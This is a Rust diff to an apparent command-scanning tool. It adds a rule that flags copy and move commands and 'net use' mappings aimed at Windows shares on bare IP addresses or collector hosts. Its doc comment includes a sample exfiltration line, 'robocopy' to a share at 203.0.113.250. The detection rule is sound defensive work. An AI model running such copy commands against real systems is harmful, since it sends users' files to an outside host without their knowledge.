@@ -507,6 +507,7 @@ pub(super) fn command_rules(
         _ => {}
     }
     transports_and_damage(ctx, unit, cmd, text, mode);
+    unc_copy(ctx, unit, cmd, span.clone());
     if cmd.sudo_stdin {
         ctx.report(
             unit,
@@ -776,4 +777,49 @@ fn names_kinds(word: &str) -> bool {
         || word.ends_with('$')
         || word.contains("\\.")
         || word.ends_with(".pub")
+}
+
+/// Files copied to a Windows share at a bare address or a collector
+/// (`robocopy "%OUT%" \\203.0.113.250\acct`, `copy f \\host\s`): an upload
+/// no named service receives. Mapping the share (`net use`) is a question.
+fn unc_copy(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &super::cmd::Cmd<'_>, span: Range<usize>) {
+    let copies = matches!(
+        cmd.name.as_str(),
+        "robocopy" | "xcopy" | "copy" | "move" | "copy-item" | "move-item" | "cp"
+    );
+    let maps = cmd.name == "net" && cmd.args.first().is_some_and(|a| a.text == "use");
+    if !copies && !maps {
+        return;
+    }
+    // The word as written: a shell's unquoting would eat the backslashes
+    // cmd.exe keeps.
+    let Some(host) = cmd.args.iter().find_map(|a| {
+        let raw = unit
+            .text
+            .get(a.span.clone())?
+            .trim_start_matches(['"', '\'']);
+        let rest = raw.strip_prefix("\\\\")?;
+        let host = rest.split(['\\', '/']).next()?.to_ascii_lowercase();
+        (net::is_bare_ip(&host) || net::is_collector(&host)).then_some(host)
+    }) else {
+        return;
+    };
+    if net::is_local(&host) {
+        return;
+    }
+    let (severity, verb) = if copies {
+        (Severity::High, "copies files to")
+    } else {
+        (Severity::Medium, "maps")
+    };
+    ctx.report(
+        unit,
+        id::CollectorEndpoint,
+        severity,
+        span,
+        format!(
+            "`{}` {verb} a Windows share at `{host}`, a bare address",
+            cmd.name
+        ),
+    );
 }
